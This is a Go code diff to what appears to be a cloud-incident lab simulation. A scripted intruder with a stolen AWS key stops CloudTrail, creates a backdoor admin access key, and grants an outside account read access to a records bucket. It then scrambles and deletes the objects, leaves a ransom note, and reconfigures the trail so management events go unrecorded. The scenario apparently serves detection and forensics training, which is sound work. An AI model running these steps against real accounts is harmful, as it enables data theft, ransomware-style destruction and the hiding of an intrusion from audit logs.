@@ -52,8 +52,9 @@ func blindBackup(ctx context.Context, env labkit.Env) error {
 
 // blindOps is the operations admin: at the start of the day they add
 // object-level logging for the records bucket to the trail (a change to
-// the event selectors that keeps every management event), and then look
-// at the trail's health now and then.
+// the event selectors that keeps every management event), let the
+// organisation's backup vault, an account of its own, read the records,
+// and then look at the trail's health now and then.
 func blindOps(ctx context.Context, env labkit.Env) error {
 	c := keyed(env, "OPS", "aws-cli/2.15.30 Python/3.11.8 Darwin/23.3.0 exe/x86_64 prompt/off")
 	if !labkit.Sleep(ctx, 2*time.Second) {
@@ -70,6 +71,13 @@ func blindOps(ctx context.Context, env labkit.Env) error {
 			return nil
 		}
 	}
+	vault := map[string]any{"Sid": "OrgBackupVault", "Effect": "Allow",
+		"Principal": map[string]any{"AWS": "arn:aws:iam::" + vaultAccount + ":role/org-backup-vault"},
+		"Action":    []string{"s3:GetObject", "s3:GetObjectVersion", "s3:ListBucket"},
+		"Resource":  []string{"arn:aws:s3:::" + records, "arn:aws:s3:::" + records + "/*"}}
+	if err := addStatement(c, vault); err != nil {
+		labkit.Logger.Info("ops: the vault's grant failed", "err", err)
+	}
 	for {
 		_, _ = c.JSON("cloudtrail", trailTarget+"DescribeTrails", map[string]any{})
 		_, _ = c.JSON("cloudtrail", trailTarget+"GetTrailStatus", map[string]string{"Name": "management-events"})
@@ -81,14 +89,20 @@ func blindOps(ctx context.Context, env labkit.Env) error {
 }
 
 func blindIntruder(ctx context.Context, env labkit.Env) error {
-	done := false
-	labkit.Intrude(ctx, labkit.Duration(env, "DELAY", 8*time.Second), time.Hour, func() error {
-		if done {
-			return nil
+	in := &intrusion{c: keyed(env, "STOLEN", "aws-cli/2.13.25 Python/3.11.5 Linux/6.5.0-kali3-amd64 exe/x86_64.kali.2023 prompt/off")}
+	steps := in.steps()
+	next := 0
+	labkit.Intrude(ctx, labkit.Duration(env, "DELAY", 5*time.Second), time.Hour, func() error {
+		// Each step is done once: a run that fails (the cloud still
+		// starting) resumes where it stopped rather than starting over.
+		for next < len(steps) {
+			if err := steps[next](); err != nil {
+				return err
+			}
+			next++
+			labkit.Sleep(ctx, 2*time.Second) // the pause of someone typing
 		}
-		err := blind(ctx, env)
-		done = err == nil
-		return err
+		return nil
 	})
 	return nil
 }
@@ -97,34 +111,66 @@ func blindIntruder(ctx context.Context, env labkit.Env) error {
 // lets in.
 const outsideAccount = "739215604118"
 
-// blind is the intrusion, step by step, with the pauses of someone typing.
-func blind(ctx context.Context, env labkit.Env) error {
-	c := keyed(env, "STOLEN", "aws-cli/2.13.25 Python/3.11.5 Linux/6.5.0-kali3-amd64 exe/x86_64.kali.2023 prompt/off")
-	step := func(d time.Duration) bool { return labkit.Sleep(ctx, d) }
-	ok := func(res client.Result, err error) error {
-		if err != nil {
-			return err
-		}
-		if !res.OK() {
-			return fmt.Errorf("%s: %s", res, res.Body)
-		}
-		return nil
-	}
-	// Who am I, and who is watching?
-	if err := ok(c.Query("sts", "GetCallerIdentity", nil)); err != nil {
+// intrusion is the intruder's session with the stolen key.
+type intrusion struct {
+	c       *client.Client
+	keys    []string // the records it found
+	deleted int      // how many of them it has deleted
+}
+
+func ok(res client.Result, err error) error {
+	if err != nil {
 		return err
 	}
-	_, _ = c.JSON("cloudtrail", trailTarget+"DescribeTrails", map[string]any{})
-	_, _ = c.JSON("cloudtrail", trailTarget+"GetTrailStatus", map[string]string{"Name": "management-events"})
-	step(4 * time.Second)
-	// 1. Blind the trail.
-	if err := ok(c.JSON("cloudtrail", trailTarget+"StopLogging", map[string]string{"Name": "management-events"})); err != nil {
-		return err
+	if !res.OK() {
+		return fmt.Errorf("%s: %s", res, res.Body)
 	}
-	step(5 * time.Second)
-	// 2. A second key for an admin, a way back in if this one is revoked.
-	_, _ = c.Query("iam", "ListUsers", nil)
-	made, err := c.Query("iam", "CreateAccessKey", url.Values{"UserName": {"ops-admin"}})
+	return nil
+}
+
+// steps are the intrusion in order.
+func (in *intrusion) steps() []func() error {
+	c := in.c
+	trailCall := func(action string, body any) func() error {
+		return func() error { return ok(c.JSON("cloudtrail", trailTarget+action, body)) }
+	}
+	return []func() error{
+		// Who am I, and who is watching?
+		func() error {
+			if err := ok(c.Query("sts", "GetCallerIdentity", nil)); err != nil {
+				return err
+			}
+			_, _ = c.JSON("cloudtrail", trailTarget+"DescribeTrails", map[string]any{})
+			_, _ = c.JSON("cloudtrail", trailTarget+"GetTrailStatus", map[string]string{"Name": "management-events"})
+			return nil
+		},
+		// 1. Blind the trail.
+		trailCall("StopLogging", map[string]string{"Name": "management-events"}),
+		// 2. A second key for an admin, a way back in if this one is revoked.
+		in.backdoorKey,
+		// 3. The bucket lets the intruder's own account in.
+		func() error { return grantOutside(c) },
+		// 4. Copy everything out, overwrite each object with its
+		// "encrypted" form, then delete it, and leave a note. The versions
+		// stay behind: the old ones, and the intruder's own on top.
+		in.copyAndScramble,
+		in.deleteAll,
+		func() error {
+			return ok(c.S3("PUT", "/"+records+"/README-RESTORE-YOUR-DATA.txt", []byte(ransomNote)))
+		},
+		// 5. Switch the trail back on, so its status looks as it should,
+		// but first let it take object reads and writes only: files keep
+		// arriving, and the next key or policy change is in none of them.
+		trailCall("PutEventSelectors", map[string]any{"TrailName": "management-events",
+			"EventSelectors": []map[string]any{{"ReadWriteType": "All", "IncludeManagementEvents": false,
+				"DataResources": []map[string]any{{"Type": "AWS::S3::Object", "Values": []string{"arn:aws:s3"}}}}}}),
+		trailCall("StartLogging", map[string]string{"Name": "management-events"}),
+	}
+}
+
+func (in *intrusion) backdoorKey() error {
+	_, _ = in.c.Query("iam", "ListUsers", nil)
+	made, err := in.c.Query("iam", "CreateAccessKey", url.Values{"UserName": {"ops-admin"}})
 	if err := ok(made, err); err != nil {
 		return err
 	}
@@ -133,49 +179,66 @@ func blind(ctx context.Context, env labkit.Env) error {
 		Secret string `xml:"CreateAccessKeyResult>AccessKey>SecretAccessKey"`
 	}
 	if xml.Unmarshal(made.Body, &key) == nil && key.ID != "" {
-		back := &client.Client{Endpoint: c.Endpoint, UserAgent: c.UserAgent, Creds: &client.Credentials{AccessKeyID: key.ID, SecretAccessKey: key.Secret}}
+		back := &client.Client{Endpoint: in.c.Endpoint, UserAgent: in.c.UserAgent, Creds: &client.Credentials{AccessKeyID: key.ID, SecretAccessKey: key.Secret}}
 		_, _ = back.Query("sts", "GetCallerIdentity", nil)
 	}
-	step(4 * time.Second)
-	// 3. The bucket lets the intruder's own account in.
-	if err := grantOutside(c); err != nil {
-		return err
-	}
-	step(3 * time.Second)
-	// 4. Copy everything out, delete it (the versions stay behind, which
-	// the intruder did not look at), and leave a note.
-	keys, err := list(c, records)
+	return nil
+}
+
+func (in *intrusion) copyAndScramble() error {
+	keys, err := list(in.c, records)
 	if err != nil {
 		return err
 	}
+	in.keys = keys
 	for _, k := range keys {
-		_, _ = c.S3("GET", "/"+records+"/"+k, nil)
+		res, err := in.c.S3("GET", "/"+records+"/"+k, nil)
+		if err != nil || !res.OK() {
+			continue
+		}
+		_, _ = in.c.S3("PUT", "/"+records+"/"+k, scramble(res.Body))
 	}
-	step(2 * time.Second)
-	for _, k := range keys {
-		if err := ok(c.S3("DELETE", "/"+records+"/"+k, nil)); err != nil {
+	return nil
+}
+
+func (in *intrusion) deleteAll() error {
+	for ; in.deleted < len(in.keys); in.deleted++ {
+		if err := ok(in.c.S3("DELETE", "/"+records+"/"+in.keys[in.deleted], nil)); err != nil {
 			return err
 		}
 	}
-	if err := ok(c.S3("PUT", "/"+records+"/README-RESTORE-YOUR-DATA.txt", []byte(ransomNote))); err != nil {
-		return err
-	}
-	step(3 * time.Second)
-	// 5. Switch the trail back on, so its status looks as it should, but
-	// first let it take object reads and writes only: files keep arriving,
-	// and the next key or policy change is in none of them.
-	if err := ok(c.JSON("cloudtrail", trailTarget+"PutEventSelectors", map[string]any{"TrailName": "management-events",
-		"EventSelectors": []map[string]any{{"ReadWriteType": "All", "IncludeManagementEvents": false,
-			"DataResources": []map[string]any{{"Type": "AWS::S3::Object", "Values": []string{"arn:aws:s3"}}}}}})); err != nil {
-		return err
-	}
-	step(2 * time.Second)
-	return ok(c.JSON("cloudtrail", trailTarget+"StartLogging", map[string]string{"Name": "management-events"}))
+	return nil
 }
+
+// scramble is what the intruder's "encryption" leaves: bytes that are
+// not the record, the same length, under a header naming the ransom id.
+func scramble(b []byte) []byte {
+	out := append([]byte("ACME-7F3K-2291\n"), b...)
+	for i := 15; i < len(out); i++ {
+		out[i] ^= 0x5a
+	}
+	return out
+}
+
+// vaultAccount is the organisation's own backup account, which the ops
+// admin lets read the records: an outside account the organisation trusts.
+const vaultAccount = "380219475601"
 
 // grantOutside adds a statement to the records bucket's policy that lets
 // the intruder's account read and list it, keeping what was there.
 func grantOutside(c *client.Client) error {
+	return addStatement(c, map[string]any{
+		"Sid": "CrossAccountReplication", "Effect": "Allow",
+		"Principal": map[string]any{"AWS": "arn:aws:iam::" + outsideAccount + ":root"},
+		"Action":    []string{"s3:GetObject", "s3:GetObjectVersion", "s3:ListBucket", "s3:ListBucketVersions"},
+		"Resource":  []string{"arn:aws:s3:::" + records, "arn:aws:s3:::" + records + "/*"},
+	})
+}
+
+// addStatement adds a statement to the records bucket's policy, keeping
+// what is there: the ops admin and the intruder each read it first, so
+// the later of the two keeps the earlier one's statement.
+func addStatement(c *client.Client, statement map[string]any) error {
 	var doc struct {
 		Version   string           `json:"Version"`
 		Statement []map[string]any `json:"Statement"`
@@ -184,12 +247,7 @@ func grantOutside(c *client.Client) error {
 	if res, err := c.S3("GET", "/"+records+"?policy", nil); err == nil && res.OK() {
 		_ = json.Unmarshal(res.Body, &doc)
 	}
-	doc.Statement = append(doc.Statement, map[string]any{
-		"Sid": "CrossAccountReplication", "Effect": "Allow",
-		"Principal": map[string]any{"AWS": "arn:aws:iam::" + outsideAccount + ":root"},
-		"Action":    []string{"s3:GetObject", "s3:GetObjectVersion", "s3:ListBucket", "s3:ListBucketVersions"},
-		"Resource":  []string{"arn:aws:s3:::" + records, "arn:aws:s3:::" + records + "/*"},
-	})
+	doc.Statement = append(doc.Statement, statement)
 	body, _ := json.Marshal(doc)
 	res, err := c.S3("PUT", "/"+records+"?policy", body)
 	if err != nil {
